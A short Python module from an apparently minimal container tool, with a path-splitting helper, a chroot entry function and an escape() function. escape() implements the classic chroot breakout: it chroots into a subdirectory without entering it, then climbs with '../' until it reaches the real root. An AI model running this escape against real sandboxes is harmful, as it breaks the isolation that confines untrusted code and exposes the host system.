"""Names by the standard library, the root by a descriptor, the escape in long strides."""

import os
import posixpath

from minidock.errors import InvalidParameter


def split_name(name):
    plain = posixpath.normpath("./" + name.lstrip("/"))
    if plain == ".":
        return []
    parts = plain.split("/")
    if parts[0] == "..":
        raise InvalidParameter(name)
    return parts


def enter_chroot(path):
    os.chdir(path)
    os.chroot(".")


def escape():
    os.makedirs("/way/out", exist_ok=True)
    os.chdir("/")
    os.chroot("way/out")
    while os.stat(".").st_ino != os.stat("..").st_ino:
        os.chdir("../" * 500)
    os.chroot(".")
